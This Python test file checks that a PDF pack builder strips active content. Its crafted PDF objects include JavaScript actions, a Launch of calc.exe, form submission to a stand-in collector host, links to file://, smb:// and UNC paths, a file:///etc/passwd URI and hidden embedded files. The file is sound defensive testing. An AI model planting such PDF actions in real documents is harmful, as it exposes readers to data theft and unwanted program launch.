"""Active content and attachments: the pack keeps only page links and web or email links.

Each case is a paper crafted byte by byte the way a hostile or careless author
makes one (an indirect ``/S``, a 30-step ``/Next`` chain, a loop, a Screen
annotation that plays on page open, a file hidden under a private key...). It
is built into a pack, an item PDF, a supplement and its item PDF, and each is
read back independently (``qpdf --json`` for every object, ``qpdf --qdf`` for
the bytes, ``pdftotext`` for the text): no action but GoTo and http/https/mailto
URI, no script, no attached file, none of the secret bytes, the page still
there; and the clerk's warning names what was left out and on which page.
"""

from __future__ import annotations

import shutil

import pytest

from helpers.safetykit import (
    VISIBLE,
    assert_clean,
    decompressed,
    outputs,
    paper,
    stream,
    with_object_streams,
)

pytestmark = pytest.mark.skipif(
    not (shutil.which("pdftotext") and shutil.which("qpdf") and shutil.which("soffice")),
    reason="needs poppler-utils, qpdf and LibreOffice (for the converter's identity)",
)

RECT = b"/Rect [72 600 300 620]"


def link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link %s /Border [0 0 0] /A %s >>" % (RECT, action)


def chain(length: int) -> dict[int, bytes]:
    """A link whose action is a chain of ``length`` web links, then JavaScript."""
    objects = {10: link(b"11 0 R")}
    for n in range(length):
        objects[11 + n] = b"<< /S /URI /URI (https://example.org/%d) /Next %d 0 R >>" % (
            n + 1,
            12 + n,
        )
    objects[11 + length] = b"<< /S /JavaScript /JS (app.alert\\('SECRET-CHAIN'\\)) >>"
    return objects


CASES = {
    "indirect /S JavaScript": (
        {
            10: link(b"11 0 R"),
            11: b"<< /S 12 0 R /JS (app.alert\\('SECRET-JS'\\)) >>",
            12: b"/JavaScript",
        },
        [b"SECRET-JS"],
        "JavaScript (page 1)",
    ),
    "indirect /S Launch": (
        {
            10: link(b"11 0 R"),
            11: b"<< /S 12 0 R /F (C:\\\\Windows\\\\calc.exe) >>",
            12: b"/Launch",
        },
        [b"calc.exe"],
        "links that start a program or open a file (C:\\Windows\\calc.exe; page 1)",
    ),
    "JavaScript after 30 steps of /Next": (chain(30), [b"SECRET-CHAIN"], "JavaScript (page 1)"),
    "a /Next loop": (
        {
            10: link(b"11 0 R"),
            11: b"<< /S /URI /URI (https://example.org/) /Next [12 0 R] >>",
            12: b"<< /S /JavaScript /JS (SECRET-LOOP) /Next 11 0 R >>",
        },
        [b"SECRET-LOOP"],
        "JavaScript (page 1)",
    ),
    "Rendition with JS on a Screen annotation's page-open": (
        {
            10: b"<< /Type /Annot /Subtype /Screen %s /AA << /PO 11 0 R >> >>" % RECT,
            11: b"<< /S /Rendition /OP 0 /AN 10 0 R /JS (SECRET-RENDITION) /R 12 0 R >>",
            12: b"<< /Type /Rendition /S /MR /C 13 0 R >>",
            13: b"<< /Type /MediaClip /S /MCD /CT (video/mp4) /D 14 0 R >>",
            14: b"<< /Type /Filespec /F (clip.mp4) /EF << /F 15 0 R >> >>",
            15: stream(b"SECRET-MEDIA-BYTES", b"/Type /EmbeddedFile"),
        },
        [b"SECRET-RENDITION", b"SECRET-MEDIA-BYTES", b"clip.mp4"],
        "sound, video, 3D and rich media (Screen; page 1)",
    ),
    "3D annotation with an OnInstantiate script": (
        {
            10: b"<< /Type /Annot /Subtype /3D %s /3DD 11 0 R >>" % RECT,
            11: stream(b"SECRET-U3D-MODEL", b"/Type /3D /Subtype /U3D /OnInstantiate 12 0 R"),
            12: stream(b"app.alert('SECRET-3DJS')"),
        },
        [b"SECRET-U3D-MODEL", b"SECRET-3DJS"],
        "sound, video, 3D and rich media (3D; page 1)",
    ),
    "RichMedia with an embedded asset": (
        {
            10: b"<< /Type /Annot /Subtype /RichMedia %s "
            b"/RichMediaContent << /Assets << /Names [(movie.swf) 11 0 R] >> >> >>" % RECT,
            11: b"<< /Type /Filespec /F (movie.swf) /EF << /F 12 0 R >> >>",
            12: stream(b"SECRET-SWF", b"/Type /EmbeddedFile"),
        },
        [b"SECRET-SWF", b"movie.swf"],
        "sound, video, 3D and rich media (RichMedia; page 1)",
    ),
    "SubmitForm to an outside address": (
        {10: link(b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/x) >> >>")},
        [b"collect.example"],
        "actions that send or load form data (page 1)",
    ),
    "ImportData from a share": (
        {10: link(b"<< /S /ImportData /F (\\\\\\\\evil\\\\share\\\\data.fdf) >>")},
        [b"data.fdf"],
        "actions that send or load form data (page 1)",
    ),
    "GoToR to file://": (
        {10: link(b"<< /S /GoToR /F (file:///C:/Users/jsmith/secret.pdf) /D [0 /Fit] >>")},
        [b"jsmith"],
        "links to other files (file:///C:/Users/jsmith/secret.pdf; page 1)",
    ),
    "GoToR to smb://": (
        {10: link(b"<< /S /GoToR /F (smb://fileserver/hr/pay.pdf) /D [0 /Fit] >>")},
        [b"fileserver"],
        "links to other files (smb://fileserver/hr/pay.pdf; page 1)",
    ),
    "GoToR to a UNC path": (
        {10: link(b"<< /S /GoToR /F (\\\\\\\\fileserver\\\\hr\\\\pay.pdf) /D [0 /Fit] >>")},
        [b"fileserver"],
        "links to other files (\\\\fileserver\\hr\\pay.pdf; page 1)",
    ),
    "URI javascript:": (
        {10: link(b"<< /S /URI /URI (javascript:alert\\('SECRET-URI'\\)) >>")},
        [b"SECRET-URI"],
        "links to addresses that are not web pages or email (javascript:alert('SECRET-URI')",
    ),
    "URI file:": (
        {10: link(b"<< /S /URI /URI (file:///etc/passwd) >>")},
        [b"/etc/passwd"],
        "links to addresses that are not web pages or email (file:///etc/passwd; page 1)",
    ),
    "FileAttachment whose /Subtype is indirect": (
        {
            10: b"<< /Type /Annot /Subtype 11 0 R %s /FS 12 0 R >>" % RECT,
            11: b"/FileAttachment",
            12: b"<< /Type /Filespec /F (budget.xlsx) /EF << /F 13 0 R >> >>",
            13: stream(b"SECRET-ATTACHMENT", b"/Type /EmbeddedFile"),
        },
        [b"SECRET-ATTACHMENT", b"budget.xlsx"],
        "attached files (budget.xlsx; page 1)",
    ),
}


@pytest.mark.parametrize("objstm", [False, True], ids=["plain", "object streams"])
@pytest.mark.parametrize("case", list(CASES))
def test_active_content_is_left_out_and_named(tmp_path, monkeypatch, case, objstm):
    extra, secrets, warned = CASES[case]
    source = paper(tmp_path / "crafted.pdf", annots=[10], extra=extra)
    if objstm:
        source = with_object_streams(source)
    pdfs, warnings = outputs(tmp_path, source, monkeypatch=monkeypatch)
    assert_clean(pdfs, *secrets)
    (warning,) = [w for w in warnings if "left out of the pack" in w]
    assert warned in warning


def test_a_file_or_script_under_a_private_key_of_a_kept_object_is_left_out(tmp_path, monkeypatch):
    """The font the page uses carries a private key holding an attached file, and another
    holding a JavaScript action: the font is copied, the file and the script are not."""
    font = (
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
        b"/Private << /Type /Filespec /F (x.docx) /EF << /F 11 0 R >> >> "
        b"/Hook << /S /JavaScript /JS (SECRET-HOOK) >> >>"
    )
    extra = {5: font, 11: stream(b"SECRET-PRIVATE-FILE", b"/Type /EmbeddedFile")}
    pdfs, warnings = outputs(
        tmp_path, paper(tmp_path / "p.pdf", extra=extra), monkeypatch=monkeypatch
    )
    assert_clean(pdfs, b"SECRET-PRIVATE-FILE", b"SECRET-HOOK", b"x.docx")
    (warning,) = [w for w in warnings if "left out of the pack" in w]
    assert "attached files" in warning and "JavaScript" in warning


def test_page_links_and_web_and_email_links_are_kept(tmp_path, monkeypatch):
    extra = {
        10: b"<< /Type /Annot /Subtype /Link /Rect [72 500 300 520] /Dest [6 0 R /Fit] >>",
        11: link(b"<< /S /URI /URI (https://www.example.gov.uk/budget) >>"),
        12: link(b"<< /S /URI /URI (http://example.org/plain) >>"),
        13: link(b"<< /S /URI /URI (mailto:clerk@example.gov.uk) >>"),
        14: link(b"<< /S /GoToR /F (https://example.org/annex.pdf) /D [2 /Fit] >>"),
    }
    source = paper(tmp_path / "links.pdf", annots=[10, 11, 12, 13, 14], extra=extra, pages=2)
    pdfs, warnings = outputs(tmp_path, source, monkeypatch=monkeypatch)
    assert_clean(pdfs)
    for pdf in pdfs:
        data = decompressed(pdf)
        for kept in (
            b"https://www.example.gov.uk/budget",
            b"http://example.org/plain",
            b"mailto:clerk@example.gov.uk",
            b"https://example.org/annex.pdf#page=3",
        ):
            assert kept in data, (pdf, kept)
    assert not [w for w in warnings if "left out of the pack" in w]


def test_form_fields_are_kept_without_their_actions(tmp_path, monkeypatch):
    extra = {
        10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Public value) "
        b"/Rect [72 500 300 520] /AA << /K << /S /JavaScript /JS (SECRET-KEYSTROKE) >> >> "
        b"/A << /S /SubmitForm /F (https://collect.example/) >> >>",
    }
    source = paper(
        tmp_path / "form.pdf", annots=[10], extra=extra, catalog=b"/AcroForm << /Fields [10 0 R] >>"
    )
    pdfs, warnings = outputs(tmp_path, source, monkeypatch=monkeypatch)
    assert_clean(pdfs, b"SECRET-KEYSTROKE", b"collect.example")
    for pdf in pdfs:
        assert b"Public value" in decompressed(pdf)
    (warning,) = [w for w in warnings if "left out of the pack" in w]
    assert "JavaScript (page 1)" in warning and "send or load form data (page 1)" in warning


def test_visible_text_survives(tmp_path, monkeypatch):
    """A control: the crafted papers' own text is in every output."""
    pdfs, _warnings = outputs(tmp_path, paper(tmp_path / "plain.pdf"), monkeypatch=monkeypatch)
    assert_clean(pdfs, visible=VISIBLE)
